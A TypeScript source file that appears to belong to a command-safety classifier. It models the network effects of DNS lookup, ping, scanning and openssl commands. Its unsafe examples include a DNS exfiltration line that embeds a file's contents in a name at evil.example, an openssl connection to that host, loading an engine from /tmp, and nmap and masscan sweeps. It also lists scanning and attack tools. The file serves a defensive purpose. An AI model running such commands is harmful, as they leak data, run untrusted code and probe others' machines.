/** The network: requests, other machines, names, probes, certificates. */
import type { Effect } from "../../effect.ts";
import type { KnownWord } from "../reading.ts";
import { carries, network as contact, fixed, texts, valuesOf } from "./makers.ts";
import { networkHttp } from "./network-http.ts";
import { networkRemote } from "./network-remote.ts";
import { wholly } from "./packages-effects.ts";
import type { EffectMaker, ProgramSpec } from "./spec.ts";

const hostWord = (word: KnownWord): string | null =>
  word.value?.replace(/^@/, "").replace(/^.*@/, "").toLowerCase() ?? null;

/** A question about a name tells it to whoever answers: a name that is not known may carry data. */
const asks: EffectMaker = (use) => {
  const words = use.operands.filter(
    (word) => !(word.value ?? "x").startsWith("-") && !(word.value ?? "x").startsWith("+"),
  );
  if (words.length === 0) return [contact(null, use.operands.some(carries))];
  return words.map((word): Effect => contact(hostWord(word), carries(word), "a name is looked up"));
};

const probe =
  (detail: string): EffectMaker =>
  (use) => [
    ...use.operands
      .filter((word) => !(word.value ?? "x").startsWith("-"))
      .map((word): Effect => contact(hostWord(word), carries(word), detail)),
    fixed("system", "read", detail),
  ];

/** openssl: what it is told to read and write; only looking and sums leave nothing behind. */
const OPENSSL_FLAGS =
  "-noout -text -subject -issuer -dates -startdate -enddate -fingerprint -serial -hash -modulus -pubkey -purpose -ext -sha1 -sha256 -sha384 -sha512 -md5 -hex -binary -r -base64 -d -e -a -A -n -verify -pubin -check -brief -showcerts -nodes -x509 -new -help -sha -c -v -dump -i -strparse -nokeys -clcerts -info -batch -rand_serial -aes-256-cbc -pbkdf2 -salt -des3 -hmac-env -quiet -list -commands";
const OPENSSL_VALUES = {
  ...texts(
    "-inform -outform -days -subj -newkey -passin -passout -nameopt -certopt -checkend -checkhost -servername -hmac -digest -iter -k -pass -bits -algorithm -pkeyopt -addext -extensions -set_serial -name -starttls -alpn",
  ),
  "-in": "read",
  "-inkey": "read",
  "-CAfile": "read",
  "-CA": "read",
  "-CAkey": "read",
  "-key": "read",
  "-cert": "read",
  "-config": "read",
  "-extfile": "read",
  "-out": "write",
  "-keyout": "write",
  "-writerand": "write",
  "-connect": "text",
  "-sigfile": "read",
  "-signature": "read",
  "-verify": "read",
} as const;

const openssl: EffectMaker = (use) => {
  const verb = use.path[0] ?? "";
  const connects = valuesOf(use, "-connect").map(
    (word): Effect => contact(word.value?.split(":")[0]?.toLowerCase() ?? null, true),
  );
  if (verb === "s_client") return connects.length > 0 ? connects : [contact(null, true)];
  if (verb === "s_server" || verb === "ocsp") return [fixed("system", "expose", "a TLS server"), contact(null, true)];
  const plain = use.operands.map(
    (word): Effect => ({ do: "read", target: use.target(word), recursive: false, content: true }),
  );
  return /^(?:dgst|sha1|sha256|sha512|md5|asn1parse|verify)$/.test(verb) ? plain : [];
};

function opensslCommands(): NonNullable<ProgramSpec["commands"]> {
  const spec = {
    style: "go" as const,
    flags: OPENSSL_FLAGS,
    values: OPENSSL_VALUES,
    runsCode: "-engine -provider -provider-path -propquery -writerand",
    operands: "text" as const,
    always: [openssl],
  };
  const names =
    "x509 req dgst sha1 sha256 sha512 md5 asn1parse verify pkey rsa ec enc base64 rand prime crl pkcs12 pkcs8 genrsa genpkey ecparam dhparam s_client s_server ocsp passwd version ciphers speed list errstr cms smime pkeyutl ts nseq";
  return {
    ...Object.fromEntries(names.split(" ").map((name) => [name, spec])),
    version: { flags: "-a -v -b -o -f -p -d -e -m -r -c", operands: { max: 0 } },
  };
}

export const network: readonly ProgramSpec[] = [
  ...networkHttp,
  ...networkRemote,
  {
    names: ["dig", "host", "nslookup", "drill", "whois", "delv", "avahi-resolve", "getent-hosts", "doggo", "dog"],
    ...wholly(asks),
    examples: {
      safe: [],
      unsafe: [
        ["dig example.com", "network"],
        ['host "$(cat x).evil.example"', "network"],
        ["whois example.com", "network"],
      ],
    },
  },
  {
    names: ["ping", "ping6", "traceroute", "tracepath", "mtr", "fping", "arping", "hping3"],
    ...wholly(asks),
    examples: { safe: [], unsafe: [["ping -c 1 example.com", "network"]] },
  },
  {
    names: [
      "nmap",
      "masscan",
      "zmap",
      "rustscan",
      "dirb",
      "wfuzz",
      "nuclei",
      "arp-scan",
      "netdiscover",
      "enum4linux",
      "aircrack-ng",
      "subfinder",
      "amass",
      "theHarvester",
    ],
    ...wholly(probe("probes or attacks other machines")),
    examples: {
      safe: [],
      unsafe: [
        ["nmap -sV 10.0.0.0/24", "network"],
        ["masscan 10.0.0.0/8", "system"],
      ],
    },
  },
  {
    names: ["openssl", "libressl"],
    commands: opensslCommands(),
    examples: {
      safe: [
        "openssl version",
        "openssl x509 -in cert.pem -noout -text",
        "openssl dgst -sha256 file",
        "openssl rand -hex 16",
      ],
      unsafe: [
        ["openssl s_client -connect evil.example:443", "network"],
        ["openssl req -x509 -newkey rsa:2048 -keyout k.pem -out c.pem -nodes -subj /CN=x", "write"],
        ["openssl x509 -engine /tmp/x.so -in a", "run"],
        ["openssl enc -aes-256-cbc -in x -out y", "write"],
        ["openssl s_server -accept 443", "system"],
      ],
    },
  },
];
